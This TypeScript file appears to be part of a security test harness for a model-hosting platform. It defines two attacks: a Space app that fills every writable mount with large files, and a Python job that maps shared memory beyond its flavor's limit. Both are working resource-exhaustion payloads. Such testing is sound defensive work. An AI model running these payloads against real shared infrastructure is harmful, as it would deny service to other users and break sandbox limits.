import { setTimeout as delay } from "node:timers/promises";
import { db } from "#core/db.ts";
import { type Attack, lanes } from "../attack.ts";

const FILL_FILES = 6;
const FILL_FILE_MIB = 256;

const FILLING_APP = `
import { createServer } from "node:http";
import { closeSync, openSync, readFileSync, unlinkSync, writeSync } from "node:fs";
const block = Buffer.alloc(1024 * 1024, 7);
const places = readFileSync("/proc/self/mounts", "utf8").split("\\n").map((line) => line.split(" ")[1]).filter((place) => place?.startsWith("/"));
let report = "";
createServer((req, res) => res.end(report)).listen(7860, () => setTimeout(fill, 500));
function fill() {
  for (const place of new Set(["/run/keyhook", ...places])) {
    let mib = 0;
    try {
      for (let file = 0; file < ${FILL_FILES}; file++) {
        const fd = openSync(place + "/fill" + file, "w");
        try {
          for (let at = 0; at < ${FILL_FILE_MIB}; at++, mib++) writeSync(fd, block);
        } finally {
          closeSync(fd);
        }
      }
    } catch {}
    if (mib === 0) continue;
    report += place + " took " + mib + " MiB; ";
    console.log("filled", place, mib);
    // Frees memory of the sandbox, so that its limit does not end this program before the next directory is tried.
    if (place !== "/run/keyhook") for (let file = 0; file < ${FILL_FILES}; file++) try { unlinkSync(place + "/fill" + file); } catch {}
  }
}
`;

export const spaceFillsDisk: Attack = {
  id: "H4",
  name: "a Space that fills every directory that it can write to",
  async prepare(stage, attackers) {
    const { person } = await stage.attacker();
    const files = { "README.md": "---\nsdk: node\n---\n# A\n", "app.js": FILLING_APP, "package.json": '{"type":"module"}' };
    let report = "";
    let stageOfSpace = "";
    return {
      async run(signal) {
        const { fullName, id } = await stage.repo(person, files, { type: "space", sdk: "node" });
        await lanes(
          1,
          signal,
          async () => {
            const answer = await attackers.send({ path: `/spaces/${fullName}/app/` });
            if (answer?.status === 200 && answer.text) report = answer.text;
            stageOfSpace = (await db().spaceRuntime.findUnique({ where: { repoId: id } }))?.stage ?? stageOfSpace;
            await delay(1_000);
          },
          0,
        );
      },
      got: () => [report || "it did not report how much it wrote", `the Space is ${stageOfSpace || "not created"}`],
    };
  },
};

const CHUNKS = 40;
const CHUNK_MIB = 64;
const FLAVOR_MIB = 2_048;

const MAPPING = `
import mmap, time
held = []
for n in range(${CHUNKS}):
    m = mmap.mmap(-1, ${CHUNK_MIB} * 1024 * 1024)
    for at in range(0, len(m), 4096): m[at] = 1
    held.append(m)
    print("holds", (n + 1) * ${CHUNK_MIB}, flush=True)
time.sleep(20)
`;

/** Any account can run such a job. Only the job's process uses the memory, but the kernel counts the memory as shared. */
export const sharedMemory: Attack = {
  id: "H5",
  name: `a job that maps ${CHUNKS * CHUNK_MIB} MiB of shared memory on a flavor of ${FLAVOR_MIB} MiB`,
  async prepare(stage, attackers) {
    const { person, token } = await stage.attacker();
    const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
    const body = JSON.stringify({
      dockerImage: "python",
      command: ["python3", "-c", MAPPING],
      flavor: "cpu-basic",
      timeoutSeconds: 120,
    });
    return {
      tasksMaxMiB: FLAVOR_MIB,
      run: (signal) =>
        lanes(1, signal, async () => {
          const made = await attackers.send({ method: "POST", path: `/api/jobs/${person.username}`, headers, body });
          const { id } = JSON.parse(made?.text ?? "{}") as { id?: string };
          for (let isRunning = id !== undefined; isRunning && !signal.aborted; await delay(1_000)) {
            const run = await db().jobRun.findUnique({ where: { id }, select: { finishedAt: true } });
            isRunning = run !== null && run.finishedAt === null;
          }
          await delay(1_000);
        }),
      async got() {
        const runs = await db().jobRun.findMany({
          where: { ownerId: person.id },
          select: { id: true, stage: true, message: true },
        });
        const logs = await db().jobLog.findMany({ where: { runId: { in: runs.map(({ id }) => id) } }, select: { text: true } });
        const held = logs.flatMap(({ text }) => [...text.matchAll(/holds (\d+)/g)].map(([, mib]) => Number(mib)));
        return [
          `held ${Math.max(0, ...held)} MiB`,
          ...runs.map(({ stage, message }) => `${stage}${message ? ` (${message})` : ""}`),
        ];
      },
    };
  },
};
